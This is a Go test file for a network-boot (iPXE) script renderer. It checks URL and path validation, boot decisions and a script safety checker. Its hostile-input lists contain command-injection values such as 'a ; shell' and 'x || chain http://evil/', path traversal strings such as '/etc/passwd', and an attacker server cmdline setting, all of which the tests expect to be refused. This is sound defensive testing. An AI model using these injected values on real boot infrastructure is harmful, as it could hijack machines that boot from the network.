package ipxe

import (
	"flag"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/rackboot/rackboot/profiles"
)

var update = flag.Bool("update", false, "rewrite testdata/*.ipxe golden files")

// golden compares got with testdata/name, or rewrites the file with -update.
func golden(t *testing.T, name, got string) {
	t.Helper()
	file := filepath.Join("testdata", name)
	if *update {
		if err := os.WriteFile(file, []byte(got), 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(file)
	if err != nil {
		t.Fatalf("%v (run go test -update to create it)", err)
	}
	if diff := cmp.Diff(string(want), got); diff != "" {
		t.Errorf("%s mismatch (-want +got):\n%s", file, diff)
	}
}

func TestBootScriptGolden(t *testing.T) {
	got, err := BootScript(testBase)
	if err != nil {
		t.Fatal(err)
	}
	golden(t, "boot.ipxe", got)
}

func TestRenderGolden(t *testing.T) {
	efi := Facts{MAC: macKnown, Arch: "x86_64", Platform: "efi", UUID: "8b3d5c2e-0d4a-4c1e-9f6b-2a1c3e4d5f60"}
	bios := Facts{MAC: macKnown, Arch: "i386", Platform: "pcbios"}
	tests := []struct {
		name      string
		facts     Facts
		hosts     Hosts
		discovery bool
		want      string // outcome
	}{
		{"known-efi", efi, fleet(nil), false, OutcomeInstaller},
		{"known-bios", bios, fleet(nil), false, OutcomeInstaller},
		{"discovery-default", Facts{MAC: macUnknown, Arch: "x86_64", Platform: "efi"}, fleet(defaultInstaller()), true, OutcomeDiscovery},
		{"unknown", Facts{MAC: macUnknown, Arch: "x86_64", Platform: "pcbios"}, fleet(defaultInstaller()), false, OutcomeUnknown},
		{"discovery-no-default", Facts{MAC: macUnknown}, fleet(nil), true, OutcomeNoInstaller},
		{"no-installer", Facts{MAC: macBare, Arch: "x86_64", Platform: "efi"}, fleet(nil), false, OutcomeNoInstaller},
		{"host-gets-default", Facts{MAC: macBare, Arch: "x86_64", Platform: "efi"}, fleet(defaultInstaller()), false, OutcomeInstaller},
		{"url-kernel", efi, fakeHosts{hosts: map[string]*profiles.Host{macKnown.String(): {
			MAC: macKnown, Hostname: "r1-n01",
			Installer: &profiles.Installer{
				Kernel:  "https://mirror.example.com/debian/vmlinuz?v=12",
				Initrd:  "demo-1.1/agent+tools%v2.img",
				Cmdline: "  console=ttyS0  ip=dhcp -- single ",
			},
		}}}, false, OutcomeInstaller},
		{"kernel-only", bios, fakeHosts{hosts: map[string]*profiles.Host{macKnown.String(): {
			MAC: macKnown, Installer: &profiles.Installer{Kernel: "memtest86+.bin"},
		}}}, false, OutcomeInstaller},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			d := Decide(tt.facts, tt.hosts, tt.discovery)
			if d.Outcome != tt.want {
				t.Fatalf("Decide outcome = %q, want %q", d.Outcome, tt.want)
			}
			got, err := Render(testApp, tt.facts, d)
			if err != nil {
				t.Fatal(err)
			}
			golden(t, tt.name+".ipxe", got)
		})
	}
}

func TestRefusalGolden(t *testing.T) {
	got := refusal(Facts{MAC: macKnown})
	if err := checkScript(got); err != nil {
		t.Fatalf("refusal script fails its own check: %v", err)
	}
	golden(t, "refused.ipxe", got)
}

func TestDecide(t *testing.T) {
	own := agentInstaller()
	def := defaultInstaller()
	tests := []struct {
		name      string
		mac       string
		hosts     Hosts
		discovery bool
		want      Decision
	}{
		{"known host, own installer", "52:54:00:00:01:01", fleet(def), false, Decision{Outcome: OutcomeInstaller, Installer: own}},
		{"known host, default installer", "52:54:00:00:01:02", fleet(def), false, Decision{Outcome: OutcomeInstaller, Installer: def}},
		{"known host, nothing", "52:54:00:00:01:02", fleet(nil), true, Decision{Outcome: OutcomeNoInstaller}},
		{"unknown, discovery off", "52:54:00:00:09:09", fleet(def), false, Decision{Outcome: OutcomeUnknown}},
		{"unknown, discovery on", "52:54:00:00:09:09", fleet(def), true, Decision{Outcome: OutcomeDiscovery, Installer: def}},
		{"unknown, discovery on, no default", "52:54:00:00:09:09", fleet(nil), true, Decision{Outcome: OutcomeNoInstaller}},
		{"nil hosts", "52:54:00:00:01:01", nil, false, Decision{Outcome: OutcomeUnknown}},
		{"nil hosts, discovery on", "52:54:00:00:01:01", nil, true, Decision{Outcome: OutcomeNoInstaller}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			hw, err := profiles.ParseMAC(tt.mac)
			if err != nil {
				t.Fatal(err)
			}
			got := Decide(Facts{MAC: hw}, tt.hosts, tt.discovery)
			got.Host = nil // compared separately: only whether one was found matters here
			if diff := cmp.Diff(tt.want, got); diff != "" {
				t.Errorf("Decide mismatch (-want +got):\n%s", diff)
			}
		})
	}
}

func TestLocation(t *testing.T) {
	f := Facts{MAC: macKnown}
	tests := []struct {
		in, want string // want "" means an error
	}{
		{"vmlinuz", testBase + "/artifacts/vmlinuz?mac=52-54-00-00-01-01"},
		{"a/b/c.img", testBase + "/artifacts/a/b/c.img?mac=52-54-00-00-01-01"},
		{"v1%2/x?y", testBase + "/artifacts/v1%252/x%3Fy?mac=52-54-00-00-01-01"},
		{"http://mirror.example.com/vmlinuz", "http://mirror.example.com/vmlinuz"},
		{"https://mirror.example.com/k?a=1&b=2", ""}, // & is not a safe character
		{"https://mirror.example.com/k?a=1", "https://mirror.example.com/k?a=1"},
		{"ftp://mirror.example.com/vmlinuz", ""},
		{"http:///vmlinuz", ""},
		{"/etc/passwd", ""},
		{"../secret", ""},
		{"a/../../secret", ""},
		{"a//b", ""},
		{"a/./b", ""},
		{"", ""},
		{"vmlinuz ${x}", ""},
		{"vmlinuz\nshell", ""},
	}
	for _, tt := range tests {
		t.Run(tt.in, func(t *testing.T) {
			got, err := location(testBase, tt.in, f)
			if tt.want == "" {
				if err == nil {
					t.Fatalf("location(%q) = %q, want an error", tt.in, got)
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			if got != tt.want {
				t.Errorf("location(%q) = %q, want %q", tt.in, got, tt.want)
			}
		})
	}
}

func TestCheckBase(t *testing.T) {
	tests := []struct {
		base string
		ok   bool
	}{
		{"http://192.0.2.1", true},
		{"http://192.0.2.1:8080", true},
		{"https://boot.example.com", true},
		{"http://[2001:db8::1]:8080", true},
		{"http://[fe80::1%25eth0]:8080", false},
		{"http://192.0.2.1/", false},
		{"http://192.0.2.1:8080/x", false},
		{"http://192.0.2.1?x", false},
		{"http://u@192.0.2.1", false},
		{"http://192.0.2.1:99999", false},
		{"http://bad_host", false},
		{"http://${ip}", false},
		{"tftp://192.0.2.1", false},
		{"192.0.2.1", false},
		{"", false},
	}
	for _, tt := range tests {
		t.Run(tt.base, func(t *testing.T) {
			err := checkBase(tt.base)
			if (err == nil) != tt.ok {
				t.Errorf("checkBase(%q) = %v, want ok=%v", tt.base, err, tt.ok)
			}
		})
	}
}

// TestCheckScript feeds the last line of defence scripts that a broken
// renderer could produce.
func TestCheckScript(t *testing.T) {
	ok := "#!ipxe\necho hi\nkernel http://x/k a=b || goto failed\n:failed\nexit 1\n"
	if err := checkScript(ok); err != nil {
		t.Fatalf("valid script refused: %v", err)
	}
	bad := map[string]string{
		"no magic":         "echo hi\n",
		"no final newline": "#!ipxe\necho hi",
		"expansion":        "#!ipxe\necho ${mac}\n",
		"semicolon":        "#!ipxe\necho a ; shell\n",
		"and list":         "#!ipxe\necho a && shell\n",
		"or list":          "#!ipxe\necho a || shell\n",
		"or goto nowhere":  "#!ipxe\necho a || goto nowhere\n",
		"goto nowhere":     "#!ipxe\ngoto nowhere\n",
		"comment":          "#!ipxe\necho a #b\n",
		"quote":            "#!ipxe\necho \"a\"\n",
		"backslash":        "#!ipxe\necho a\\\nshell\n",
		"tab":              "#!ipxe\necho a\tb\n",
		"carriage return":  "#!ipxe\necho a\r\n",
		"double space":     "#!ipxe\necho a  b\n",
		"other command":    "#!ipxe\nshell\n",
		"chain":            "#!ipxe\nchain http://x/\n",
		"empty line":       "#!ipxe\n\necho a\n",
		"bad label":        "#!ipxe\n:Bad-Label\n",
		"non-ascii":        "#!ipxe\necho \u00e9\n",
	}
	for name, s := range bad {
		t.Run(name, func(t *testing.T) {
			if err := checkScript(s); err == nil {
				t.Errorf("checkScript(%q) = nil, want an error", s)
			}
		})
	}
}

// hostile are values an attacker who could edit the YAML (or a bug in
// profiles validation) might try to turn into iPXE commands.
var hostile = []string{
	"${net0/ip}",
	"a\nshell",
	"a\r\nshell",
	"a ;shell",
	"a ; shell",
	"x || chain http://evil/",
	"x && shell",
	"# comment",
	"a\"b",
	"a'b",
	"a\\",
	"a\tb",
	"a}b{",
	"a\x00b",
}

// TestRenderRefusesHostileValues checks Render refuses, rather than
// escapes wrongly, every hostile value in every field a profile controls.
func TestRenderRefusesHostileValues(t *testing.T) {
	f := Facts{MAC: macKnown, Arch: "x86_64", Platform: "efi"}
	fields := map[string]func(v string) *profiles.Host{
		"hostname": func(v string) *profiles.Host {
			return &profiles.Host{MAC: macKnown, Hostname: v, Installer: agentInstaller()}
		},
		"kernel": func(v string) *profiles.Host {
			return &profiles.Host{MAC: macKnown, Installer: &profiles.Installer{Kernel: "vmlinuz" + v}}
		},
		"kernel url": func(v string) *profiles.Host {
			return &profiles.Host{MAC: macKnown, Installer: &profiles.Installer{Kernel: "http://x.example/k" + v}}
		},
		"initrd": func(v string) *profiles.Host {
			return &profiles.Host{MAC: macKnown, Installer: &profiles.Installer{Kernel: "vmlinuz", Initrd: v}}
		},
		"cmdline": func(v string) *profiles.Host {
			return &profiles.Host{MAC: macKnown, Installer: &profiles.Installer{Kernel: "vmlinuz", Cmdline: "quiet " + v}}
		},
	}
	for field, host := range fields {
		for _, v := range hostile {
			t.Run(field+"/"+v, func(t *testing.T) {
				h := host(v)
				d := Decision{Outcome: OutcomeInstaller, Host: h, Installer: h.Installer}
				got, err := Render(testApp, f, d)
				if err == nil {
					t.Fatalf("Render accepted %s %q:\n%s", field, v, got)
				}
				if got != "" {
					t.Errorf("Render returned a script with its error:\n%s", got)
				}
			})
		}
	}
	for _, a := range []string{"rackboot.server=http://evil.example/", "rackboot.token=x", "rackboot.after=halt", "rackboot.after="} {
		t.Run("cmdline setting "+a, func(t *testing.T) {
			h := fields["cmdline"](a)
			d := Decision{Outcome: OutcomeInstaller, Host: h, Installer: h.Installer}
			if got, err := Render(testApp, f, d); err == nil {
				t.Fatalf("Render accepted a rackboot.* argument:\n%s", got)
			}
		})
	}
	// The one a profile may set (profiles validation allows it too).
	for _, a := range []string{"rackboot.after=poweroff", "rackboot.after=reboot"} {
		t.Run("cmdline setting "+a, func(t *testing.T) {
			h := fields["cmdline"](a)
			d := Decision{Outcome: OutcomeInstaller, Host: h, Installer: h.Installer}
			got, err := Render(testApp, f, d)
			if err != nil {
				t.Fatal(err)
			}
			var kernel []string
			for _, l := range strings.Split(got, "\n") {
				if strings.HasPrefix(l, "kernel ") {
					kernel = strings.Fields(l)
				}
			}
			if !slices.Contains(kernel, a) {
				t.Errorf("the kernel line lacks %s:\n%s", a, got)
			}
		})
	}
}

// TestRenderRefusesHostileFacts covers Facts built by hand rather than by
// ParseFacts.
func TestRenderRefusesHostileFacts(t *testing.T) {
	d := Decision{Outcome: OutcomeUnknown}
	for _, f := range []Facts{
		{MAC: net6()[:4]},
		{MAC: macKnown, Arch: "x86_64\nshell"},
		{MAC: macKnown, Platform: "efi ${x}"},
		{MAC: macKnown, UUID: "8b3d5c2e-0d4a-4c1e-9f6b-2a1c3e4d5f6;"},
	} {
		if got, err := Render(testApp, f, d); err == nil {
			t.Errorf("Render(%+v) accepted:\n%s", f, got)
		}
	}
	if got, err := Render(Appliance{Base: "http://${x}"}, Facts{MAC: macKnown}, d); err == nil {
		t.Errorf("Render with a hostile base accepted:\n%s", got)
	}
	for _, a := range []Appliance{
		{Base: testBase, API: "https://h/${x}"},
		{Base: testBase, API: "https://h:1/path"},
		{Base: testBase, CA: "nbp/ca.cpio"},
		{Base: testBase, CA: "/nbp/../x"},
		{Base: testBase, CA: "/nbp/ca.cpio?x"},
		{Base: testBase, CA: "/nbp/ca ${x}"},
		{Base: testBase, Peers: []string{"https://192.0.2.2:8443", "https://h/${x}"}},
		{Base: testBase, Peers: []string{"https://192.0.2.2:8443,https://192.0.2.3:8443"}},
		{Base: testBase, Peers: []string{"https://192.0.2.2:8443 rackboot.token=x"}},
		{Base: testBase, Peers: []string{""}},
	} {
		if got, err := Render(a, Facts{MAC: macKnown}, d); err == nil {
			t.Errorf("Render with %+v accepted:\n%s", a, got)
		}
	}
	if got, err := Render(testApp, Facts{MAC: macKnown}, Decision{Outcome: "x\nshell"}); err == nil {
		t.Errorf("Render of an unknown outcome accepted:\n%s", got)
	}
}

func net6() []byte { return []byte(macKnown) }

// TestScriptsPassCheck keeps every golden script within checkScript's
// grammar, so a golden file can never be updated into something unsafe.
func TestScriptsPassCheck(t *testing.T) {
	files, err := filepath.Glob("testdata/*.ipxe")
	if err != nil {
		t.Fatal(err)
	}
	if len(files) < 10 {
		t.Fatalf("found %d golden scripts, want at least 10", len(files))
	}
	for _, file := range files {
		if strings.HasSuffix(file, "boot.ipxe") {
			continue // the one script with ${...}, by design
		}
		b, err := os.ReadFile(file)
		if err != nil {
			t.Fatal(err)
		}
		if err := checkScript(string(b)); err != nil {
			t.Errorf("%s: %v", file, err)
		}
	}
}
